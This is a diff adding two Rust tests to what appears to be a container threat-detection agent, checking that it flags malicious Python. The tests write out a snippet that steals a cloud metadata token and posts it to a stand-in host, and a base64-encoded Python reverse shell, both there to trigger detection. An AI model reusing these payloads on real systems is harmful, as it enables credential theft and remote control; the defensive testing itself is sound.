@@ -893,3 +893,52 @@ fn load_failure_without_privileges_is_a_clear_error() {
         "{err}"
     );
 }
+
+/// A `python -c` literal that would steal the cloud metadata token and post it out is reported
+/// live. The code is guarded by an environment variable that is never set, so it never runs
+/// (and the addresses are link-local / TEST-NET anyway).
+#[test]
+fn python_c_metadata_token_theft_is_reported() {
+    let images = require_containers!();
+    let agent = shared_agent(&images);
+    let c = Container::builder(&images.debian)
+        .name_prefix("py-meta")
+        .run(&["sleep", "600"])
+        .unwrap();
+    let code = "import os,urllib.request\n\
+                if os.environ.get('WARD_TEST_NEVER_SET'):\n    \
+                t=urllib.request.urlopen(urllib.request.Request('http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token',headers={'Metadata-Flavor':'Google'})).read()\n    \
+                urllib.request.urlopen('http://198.51.100.7/c',data=t)\n";
+    c.exec_ok(&["python3", "-c", code]).unwrap();
+    let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
+    assert_container(&m, &c);
+    assert_eq!(m["processes"][0]["script"]["contents"], code);
+    let reasons = m["sourceProperties"]["Model_Top_Reasons"].to_string();
+    assert!(reasons.contains("metadata"), "{reasons}");
+}
+
+/// A `python -c` literal that `exec`s a base64-decoded reverse shell: the shell connects to a
+/// listener on 127.0.0.1 and the python process is reported as Malicious Python.
+#[test]
+fn python_c_exec_of_base64_reverse_shell_is_reported() {
+    let images = require_containers!();
+    let (agent, c, _port) = reverse_shell(&images, &images.debian, "py-b64", |p| {
+        let inner = format!(
+            "import socket,os,subprocess;s=socket.socket();s.connect(('127.0.0.1',{p}));\
+             [os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
+        );
+        vec![
+            "python3".into(),
+            "-c".into(),
+            format!(
+                "import base64;exec(base64.b64decode('{}'))",
+                ward_ml::templates::base64_encode(inner.as_bytes())
+            ),
+        ]
+    });
+    let m = agent.wait_for(c.id(), MALICIOUS_PYTHON, |_| true);
+    assert_container(&m, &c);
+    assert_eq!(m["processes"][0]["args"][1], "-c");
+    let reasons = m["sourceProperties"]["Model_Top_Reasons"].to_string();
+    assert!(reasons.contains("decoded"), "{reasons}");
+}
